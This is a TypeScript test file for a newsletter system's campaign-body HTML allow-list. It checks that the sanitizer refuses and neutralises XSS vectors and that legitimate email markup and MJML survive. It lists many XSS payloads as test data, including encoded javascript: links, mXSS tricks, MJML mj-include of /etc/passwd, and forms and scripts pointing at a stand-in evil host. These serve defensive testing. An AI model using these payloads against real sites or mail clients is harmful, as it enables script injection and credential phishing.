// The campaign body allow-list: the bypasses found against the old line-based block list and the
// classic XSS vectors are refused when a body is stored and neutralised when one is rendered;
// the markup a newsletter needs (tables, inline styles, images, links, MJML) survives untouched.
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { CAMPAIGN_BODY_POLICY, campaignBodyProblems, sanitizeCampaignBody } from '../../src/rendering/campaign-body';
import { MjmlTemplateRenderer } from '../../src/rendering/mjml-template-renderer';

const allowedTags = new Set(CAMPAIGN_BODY_POLICY.allowedTags as string[]);
const URL_ATTRIBUTES = [
  'href',
  'src',
  'srcset',
  'cite',
  'background',
  'background-url',
  'base-url',
  'usemap',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'poster',
];

/**
 * Everything in `html` that could run or load something, as a browser-grade parser sees it: tags
 * outside the allow-list, event handlers, links with a scheme other than http(s), mailto, tel,
 * protocol-relative links, and CSS that can load or run (url(), expression(), image-set(), escapes).
 */
function activeContent(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (!allowedTags.has(name)) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (/^on/i.test(attribute)) found.push(`${attribute} on <${name}>`);
          if (URL_ATTRIBUTES.includes(attribute)) {
            for (const url of attribute === 'srcset' ? value.split(',').map((c) => c.trim().split(/\s+/)[0]) : [value]) {
              // eslint-disable-next-line no-control-regex -- mirrors the browser's stripping of control characters
              const bare = url.replace(/[\u0000-\u0020]+/g, '');
              const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(bare)?.[1].toLowerCase();
              if ((scheme && !['http', 'https', 'mailto', 'tel'].includes(scheme)) || /^[/\\]{2}/.test(bare)) found.push(`${attribute}=${url}`);
            }
          }
          if (attribute === 'style' && /url\s*\(|expression|image-set|\\|@import|behavior|binding/i.test(value)) found.push(`style=${value}`);
        }
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

/** The bypasses of the old line-based block list (issue 17), each one reached the mail. */
const BYPASSES: [string, string][] = [
  ['an onerror handler on the next line', '<img src="https://cdn.example.com/a.png"\nonerror="alert(1)">'],
  ['a javascript: link split over two lines', '<a href="java\nscript:alert(1)">Angebot</a>'],
  ['a javascript: link entity-encoded', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Angebot</a>'],
  ['a javascript: link with an encoded colon', '<a href="javascript&colon;alert(1)">Angebot</a>'],
  ['a javascript: link behind a tab entity', '<a href="jav&#x09;ascript:alert(1)">Angebot</a>'],
  ['svg animate onbegin', '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>'],
];

/** Classic vectors (OWASP XSS filter evasion cheat sheet, mXSS and e-mail specific ones). */
const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src="  &#14;  javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, https://cdn.example.com/a.png 2x">',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background: u\\rl(https://tracker.example/p.gif)">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/phish">x</a>',
  '<a href="\\\\evil.example/phish">x</a>',
  '<p><a href="https://ok.example" onmouseover="alert(1)">x</a></p>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '</mj-text><mj-raw><script>alert(1)</script></mj-raw><mj-text>',
  '<mj-include path="/etc/passwd" />',
  '<mjml><mj-head><mj-html-attributes><mj-selector path=".x"><mj-html-attribute name="onclick">alert(1)</mj-html-attribute></mj-selector></mj-html-attributes></mj-head><mj-body></mj-body></mjml>',
  '<mjml><mj-head><mj-style>a { background: url(javascript:alert(1)) }</mj-style></mj-head><mj-body></mj-body></mjml>',
  '<mjml><mj-body><mj-section background-url="javascript:alert(1)"><mj-column><mj-text>x</mj-text></mj-column></mj-section></mj-body></mjml>',
  '<mjml><mj-body><mj-section><mj-column><mj-button href="javascript:alert(1)">x</mj-button></mj-column></mj-section></mj-body></mjml>',
];

const renderer = new MjmlTemplateRenderer();

describe('the campaign body allow-list', () => {
  it.each(BYPASSES)('refuses %s, naming it, and leaves nothing active when rendered', async (_name, body) => {
    const check = await renderer.validateCampaignBody(body);
    expect(check.ok).toBe(false);
    expect(campaignBodyProblems(body).length).toBeGreaterThan(0);
    expect(activeContent(body).length).toBeGreaterThan(0); // the probe sees the danger in the input …
    expect(activeContent(sanitizeCampaignBody(body))).toEqual([]); // … and none in what is sent
  });

  it.each(VECTORS)('refuses and neutralises %s', async (body) => {
    const check = await renderer.validateCampaignBody(body);
    expect(check.ok).toBe(false);
    const clean = sanitizeCampaignBody(body);
    expect(activeContent(clean)).toEqual([]);
    expect(clean).not.toMatch(/<\s*\/?\s*(script|iframe|object|embed|form|svg|math|style|meta|base|link|mj-raw|mj-include)\b/i);
    expect(clean).not.toMatch(/javascript:|vbscript:|data:text/i);
  });

  it('names the line of what it refuses: an onerror on the line after its tag', () => {
    const body = '<p>Neue Halle</p>\n<img src="https://cdn.example.com/a.png"\nonerror="alert(1)">\n<p>Gruß</p>';
    expect(campaignBodyProblems(body)).toEqual([{ tag: 'img', line: 3, message: 'the onerror attribute of <img> is not allowed in a campaign body' }]);
  });

  it('says what it refuses: the tag, the attribute, the link scheme, the CSS', () => {
    expect(campaignBodyProblems('<svg></svg>').map((p) => p.message)).toEqual(['<svg> is not allowed in a campaign body']);
    expect(campaignBodyProblems('<a href="javascript:x()">x</a>').map((p) => p.message)).toEqual([
      'the href of <a> must be an http(s), mailto or tel link, not javascript:',
    ]);
    expect(campaignBodyProblems('<p style="color: red; background: url(https://t.example/p.gif)">x</p>').map((p) => p.message)).toEqual([
      'the CSS value of background may not use url(), expression() or other functions but rgb(), hsl() and calc()',
    ]);
    expect(campaignBodyProblems('<p style="position: fixed">x</p>').map((p) => p.message)).toEqual([
      'the CSS property position is not allowed in a campaign body',
    ]);
  });

  it('keeps the markup a newsletter needs, unchanged', async () => {
    const bodies = [
      '<h1>Neue Halle</h1>\n<p>Die Messe findet <a href="https://example.com/messe" target="_blank" rel="noopener">in Halle 4</a> statt.</p>',
      '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="border-collapse:collapse">' +
        '<tr><td align="center" valign="top" bgcolor="#f4f4f4" style="padding:10px 20px;color:#333333;font-family:Arial, sans-serif">' +
        '<img src="https://cdn.example.com/logo.png" alt="Logo" width="120" height="40" style="display:block;border:0" /></td></tr></table>',
      '<p style="color:rgb(51, 51, 51);font-size:16px;line-height:1.5;margin:0 0 12px 0">Fragen? <a href="mailto:team@example.com">Schreiben Sie uns</a> oder rufen Sie an: <a href="tel:+49301234567">030 1234567</a>.</p>',
      '<ul><li><strong>60 Tage</strong> Zahlungsziel</li><li><em>Neu:</em> <span style="text-decoration:underline">Skonto</span></li></ul>\n<blockquote>Zitat</blockquote>\n<hr />',
      '<p>Hallo {{firstName}} &amp; willkommen – „Anführungszeichen“ &lt;b&gt; ü</p>',
    ];
    for (const body of bodies) {
      expect(await renderer.validateCampaignBody(body)).toEqual({ ok: true });
      expect(campaignBodyProblems(body)).toEqual([]);
      expect(sanitizeCampaignBody(body)).toBe(sanitizeCampaignBody(sanitizeCampaignBody(body)));
      // Every element and attribute survives the cleaning.
      const tags = (html: string) =>
        [...html.matchAll(/<([a-z0-9-]+)([^>]*)>/gi)].map((m) => `${m[1]} ${[...m[2].matchAll(/([a-z-]+)=/gi)].map((a) => a[1]).join(',')}`);
      expect(tags(sanitizeCampaignBody(body))).toEqual(tags(body));
    }
  });

  it('accepts an MJML document with the layout elements and their MJML attributes', async () => {
    const body = [
      '<mjml>',
      '<mj-body background-color="#ffffff">',
      '<mj-section padding="10px 0" background-url="https://cdn.example.com/bg.png">',
      '<mj-column width="50%">',
      '<mj-image src="https://cdn.example.com/a.png" alt="Halle 4" href="https://example.com/messe" width="200px" />',
      '<mj-text color="#333333" font-size="16px" css-class="lead">Die Messe <a href="https://example.com">findet statt</a>.</mj-text>',
      '<mj-button href="https://example.com/anmelden" background-color="#005a9c">Anmelden</mj-button>',
      '<mj-divider border-width="1px" />',
      '</mj-column>',
      '</mj-section>',
      '</mj-body>',
      '</mjml>',
    ].join('\n');
    expect(await renderer.validateCampaignBody(body)).toEqual({ ok: true });
  });

  it('keeps MJML validation: an unknown MJML element is named once, by MJML, at its line', async () => {
    const result = await renderer.validateCampaignBody(
      '<mjml>\n<mj-body>\n<mj-section>\n<mj-column>\n<mj-blink>Hallo</mj-blink>\n</mj-column>\n</mj-section>\n</mj-body>\n</mjml>',
    );
    expect(result).toEqual({ ok: false, errors: [{ line: 5, message: expect.stringContaining('mj-blink') }] });
  });

  it('renders a stored body through the allow-list: a body from before the check loses its script in the mail', async () => {
    const mail = await renderer.render('campaign', 'en', {
      companyName: 'Tactful',
      postalAddress: 'Musterstraße 1, Berlin',
      subject: 'Offer',
      bodyHtml: '<p>Offer</p><img src="https://cdn.example.com/a.png"\nonerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">x</a>',
      preferencesUrl: 'https://tactful.example/p/x',
      unsubscribeUrl: 'https://tactful.example/u/x',
      topicName: 'Offers',
    });
    expect(mail.html).toContain('<p>Offer</p>');
    expect(mail.html).toContain('src="https://cdn.example.com/a.png"');
    expect(mail.html).not.toMatch(/onerror|<script|javascript:/i);
    expect(mail.text).not.toContain('alert(2)');
  });

  describe('properties', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '<p>',
        '</p>',
        '<a href="https://ok.example">',
        '</a>',
        '<b>',
        '</b>',
        '<br>',
        '<table><tr><td>',
        '</td></tr></table>',
        'text ',
        '&amp;',
        '&#106;',
        '\n',
      ),
      fc.constantFrom(
        '<script>',
        '</script>',
        '<svg>',
        '<img src=x ',
        'onerror=',
        'onload=',
        '"alert(1)"',
        'javascript:',
        'java\nscript:',
        '&#x3a;',
        '<a href="',
        '">',
        '<style>',
        'style="',
        'url(',
        'expression(',
        '</noscript>',
        '<noscript>',
        '<mj-raw>',
        '<iframe ',
        '>',
        '<',
        '"',
        "'",
        '=',
        ' ',
      ),
    );
    const body = fc.array(piece, { maxLength: 30 }).map((parts) => parts.join(''));

    it('nothing active is left in a cleaned body, whatever the input', () => {
      fc.assert(
        fc.property(body, (html) => activeContent(sanitizeCampaignBody(html)).length === 0),
        { numRuns: 2000 },
      );
    });

    it('a cleaned body is accepted as it is (cleaning and checking agree)', () => {
      fc.assert(
        fc.property(body, (html) => campaignBodyProblems(sanitizeCampaignBody(html)).length === 0),
        { numRuns: 2000 },
      );
    });

    it('a body with anything active in it is refused', () => {
      fc.assert(
        fc.property(body, (html) => activeContent(html).length === 0 || campaignBodyProblems(html).length > 0),
        { numRuns: 2000 },
      );
    });
  });
});
